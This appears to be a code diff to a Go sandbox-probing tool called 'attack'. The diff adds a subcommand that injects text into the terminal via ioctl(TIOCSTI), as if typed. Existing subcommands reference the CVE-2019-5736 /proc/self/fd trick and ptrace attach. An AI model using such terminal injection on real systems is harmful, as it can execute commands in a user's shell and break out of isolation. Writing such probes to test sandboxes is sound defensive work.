@@ -10,6 +10,8 @@
 //	                         through /proc/self/fd (the CVE-2019-5736 trick)
 //	attack kill PID...       signal 0 to each PID
 //	attack ptrace PID...     PTRACE_ATTACH to each PID
+//	attack tiocsti TEXT      push TEXT and a newline into the terminal on
+//	                         fd 0, 1 and 2 with ioctl(TIOCSTI), as if typed
 package main
 
 import (
@@ -66,6 +68,10 @@ func main() {
 			}
 			report("ptrace "+p, err)
 		}
+	case "tiocsti":
+		for fd := 0; fd <= 2; fd++ {
+			report("tiocsti "+strconv.Itoa(fd), tiocsti(fd, args[0]+"\n"))
+		}
 	default:
 		fmt.Fprintln(os.Stderr, "attack: unknown command", os.Args[1])
 		os.Exit(2)
@@ -116,3 +122,16 @@ func syscalls() {
 }
 
 func ptr(b []byte) uintptr { return uintptr(unsafePointer(b)) }
+
+// tiocsti pushes text one byte at a time: the first refusal ends it.
+func tiocsti(fd int, text string) error {
+	for i := 0; i < len(text); i++ {
+		b := []byte{text[i]}
+		_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, ptr(b))
+		runtime.KeepAlive(b)
+		if e != 0 {
+			return e
+		}
+	}
+	return nil
+}
